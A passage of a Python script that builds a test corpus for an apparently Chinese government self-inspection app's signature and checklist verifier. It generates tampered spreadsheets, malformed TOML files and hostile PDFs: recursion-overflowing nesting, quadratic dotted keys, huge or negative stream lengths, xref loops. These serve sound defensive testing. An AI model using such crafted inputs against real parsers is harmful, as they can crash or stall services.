      "用昆山单位(CA 签发)的证书签西湖区的数据:签名完整,但证书上的信用代码不符")
def _(kit: Kit, out: Path) -> None:
    kit.signed(out, signer=kit.signer_b)


@case("self_signed_certificate", "自签名证书.xlsx", "rejected", "签名者不受信任",
      "单位自签名证书:完整,但指定了 --trust 时身份不被承认")
def _(kit: Kit, out: Path) -> None:
    kit.signed(out, signer=kit.self_signed_a)


@case("unsigned_export", "未签名导出.xlsx", "rejected", "未签名", "本程序导出但未签名")
def _(kit: Kit, out: Path) -> None:
    kit.unsigned(out)


@case("unsigned_hand_filled_template", "手工填写的模板.xlsx", "rejected", "空白模板", "空白模板用 Excel 手工填写后报送")
def _(kit: Kit, out: Path) -> None:
    import openpyxl

    from app.commands.export_service import export_template
    from app.core.codes import make_credit_code

    blank = export_template(kit.work)
    wb = openpyxl.load_workbook(blank)
    values = {"单位名称": "淳安县农业农村局", "统一社会信用代码": make_credit_code("330127", "MB0000055"),
              "行政区划代码": "330127", "自查年度": 2025, "检查日期": INSPECTION_DAY, "清单编号": "zhijian-2023",
              "清单版本": "2024.1"}
    for row in wb["单位信息"].iter_rows(min_row=2):
        if row[0].value in values:
            row[1].value = values[row[0].value]
    wb["应用程序台账"].append(["APP-0001", "淳安农技通小程序", "小程序", "淳安县农业农村局"])
    wb.save(out)
    blank.unlink()


# ---- checklists ----------------------------------------------------------------------------------------

def _shipped() -> str:
    from app.core.checklist import shipped_checklist_files

    return shipped_checklist_files()[0].read_text(encoding="utf-8")


def _checklist(name: str, filename: str, expected: str, reason: str, note: str,
               text: Callable[[str], str | bytes]) -> None:
    def build(kit: Kit, out: Path) -> None:
        content = text(_shipped())
        if isinstance(content, bytes):
            out.write_bytes(content)
        else:
            out.write_text(content, encoding="utf-8")
    case(name, filename, expected, reason, note, kind="checklist")(build)


def _first(old: str, new: str) -> Callable[[str], str]:
    def edit(t: str) -> str:
        assert old in t, old
        return t.replace(old, new, 1)
    return edit


EMPTY_ARTICLE = '\n[[articles]]\nnumber = 17\npart = 5\ntitle = "附则"\ntext = "本意见自印发之日起施行。"\nitems = []\n'

_checklist("checklist_shipped_copy", "清单_原样.toml", "accepted", "", "对照:随程序发布的清单", lambda t: t)
_checklist("checklist_malformed_toml", "清单_语法错误.toml", "rejected", "不是有效的 TOML", "少了右方括号",
           lambda t: t + "\n[[articles\nnumber = 18\n")
_checklist("checklist_missing_title", "清单_缺标题.toml", "rejected", "缺少字段 title", "删掉顶层 title",
           _first('title = "防治“指尖上的形式主义”自查清单"\n', ""))
_checklist("checklist_unknown_scope", "清单_未知范围.toml", "rejected", "未知的适用范围 scopes “department”",
           "scopes 写了 department", _first('scopes = ["unit"]', 'scopes = ["unit", "department"]'))
_checklist("checklist_duplicate_item", "清单_检查项重复.toml", "rejected", "检查项编号 A01-01 重复", "A01-02 改成 A01-01",
           _first('id = "A01-02"', 'id = "A01-01"'))
_checklist("checklist_article_without_items", "清单_空条款.toml", "rejected", "至少需要一个检查项", "第17条 items = []",
           lambda t: t + EMPTY_ARTICLE)
_checklist("checklist_wrong_types", "清单_类型错误.toml", "rejected", "字段 number 应为整数", "number = \"一\"",
           _first("number = 1\n", 'number = "一"\n'))
_checklist("checklist_scopes_not_list", "清单_范围不是列表.toml", "rejected", "字段 scopes 应为非空列表", 'scopes = "unit"',
           _first('scopes = ["unit"]', 'scopes = "unit"'))
_checklist("checklist_huge_file", "清单_超大.toml", "rejected", "过大", "5 MB 注释",
           lambda t: t + "# 填充填充填充填充填充填充填充填充填充填充填充填充\n" * 70_000)
_checklist("checklist_deeply_nested_arrays", "清单_深层嵌套数组.toml", "rejected", "嵌套层次过深",
           "x = [[[[…]]]] 五万层(tomllib 递归溢出)", lambda t: t + "\nx = " + "[" * 50_000 + "]" * 50_000 + "\n")
_checklist("checklist_deeply_nested_inline_tables", "清单_深层嵌套内联表.toml", "rejected", "嵌套层次过深",
           "x = {a={a={…}}} 一万层", lambda t: t + "\nx = " + "{a=" * 10_000 + "1" + "}" * 10_000 + "\n")
_checklist("checklist_deep_dotted_table", "清单_深层点号表头.toml", "rejected", "键层次过深",
           "[a.a.a.…] 两万层(tomllib 平方级耗时)", lambda t: t + "\n[" + ".".join(["a"] * 20_000) + "]\n")
_checklist("checklist_deep_dotted_key", "清单_深层点号键.toml", "rejected", "键层次过深",
           'x.x.x.… = 1 两万层(40 KB 曾耗时 10 秒)', lambda t: "x." * 20_000 + "x = 1\n" + t)
_checklist("checklist_not_utf8", "清单_GBK编码.toml", "rejected", "无法读取清单文件", "另存成了 GBK 编码",
           lambda t: t.encode("gb18030"))
_checklist("checklist_empty", "清单_空文件.toml", "rejected", "缺少字段 id", "0 字节", lambda t: "")


# ---- report PDFs (judged by app.signing.verify.verify_file: a verdict, never a crash) -------------------

def pdf_file(objects: list[bytes], root: int = 1, startxref: int | None = None, extra_trailer: bytes = b"") -> bytes:
    """A classic PDF with an xref table: ``objects[i]`` is the body of object ``i + 1``."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, root, extra_trailer, xref if startxref is None else startxref)
    return bytes(out)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"


def _pdf(name: str, filename: str, note: str, content: Callable[[], bytes], reason: str = "corrupt:") -> None:
    def build(kit: Kit, out: Path) -> None:
        out.write_bytes(content())
    case(name, filename, "rejected", reason, note, kind="pdf")(build)


_pdf("pdf_deeply_nested_arrays", "报告_深层嵌套数组.pdf", "页面字典里 [[[[…]]]] 二十万层(解析器递归溢出)",
     lambda: pdf_file([CATALOG, PAGES, b"<< /Type /Page /Parent 2 0 R /X " + b"[" * 200_000 + b"]" * 200_000 + b" >>"]))
_pdf("pdf_deeply_nested_dicts", "报告_深层嵌套字典.pdf", "目录字典 << /A << /A … >> >> 十万层",
     lambda: pdf_file([b"<< /Type /Catalog /Pages 2 0 R /A " + b"<< /A " * 100_000 + b">> " * 100_000 + b">>",
                       PAGES, PAGE]))
_pdf("pdf_huge_stream_length", "报告_超大Length.pdf", "内容流 /Length 声明 10^15 字节",
     lambda: pdf_file([CATALOG, PAGES, PAGE, b"<< /Length 999999999999999 >>\nstream\nBT ET\nendstream"]))
_pdf("pdf_negative_stream_length", "报告_负Length.pdf", "内容流 /Length -5",
     lambda: pdf_file([CATALOG, PAGES, PAGE, b"<< /Length -5 >>\nstream\nBT ET\nendstream"]))
_pdf("pdf_garbage_xref", "报告_乱码交叉引用表.pdf", "startxref 指向文件之外,xref 表是乱码",
     lambda: pdf_file([CATALOG, PAGES, PAGE], startxref=987_654_321).replace(b"xref\n0 4", b"xr\x00f\n9 -1"))
_pdf("pdf_xref_prev_loop", "报告_交叉引用循环.pdf", "trailer /Prev 指向自己(无限循环)",
     lambda: pdf_file([CATALOG, PAGES, PAGE], extra_trailer=b"/Prev 9999 "))
_pdf("pdf_truncated", "报告_截断.pdf", "只有文件头和半个对象",
     lambda: b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R")
_pdf("pdf_sig_field_garbage", "报告_签名字段乱码.pdf", "AcroForm 签名字段的 /V 指向非签名内容,/ByteRange 为字符串",
     lambda: pdf_file([b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] >> >>", PAGES, PAGE,
                       b"<< /Length 5 >>\nstream\nBT ET\nendstream",
                       b"<< /FT /Sig /T (S) /V << /Type /Sig /ByteRange (abc) /Contents <00> >> >>"]),
     reason="tampered:")


# ---- building ------------------------------------------------------------------------------------------

def build_corpus(folder: Path | str) -> list[Case]:
    """Write every case into ``folder`` (helpers go to ``folder/_work``) and return the cases."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    kit = make_kit(folder)
    cases = []
    for spec in SPECS:
        out = folder / spec.filename
        spec.build(kit, out)
        cases.append(Case(spec.name, out, spec.kind, spec.expected, spec.reason, spec.note))
    return cases


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("用法:python tests/corpus/make_corpus.py 输出文件夹", file=sys.stderr)
        return 2
    for c in build_corpus(Path(argv[0])):
        print(f"{c.kind:9} {c.expected:8} {c.file.name:28} {c.reason or '—'}  ({c.note})")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
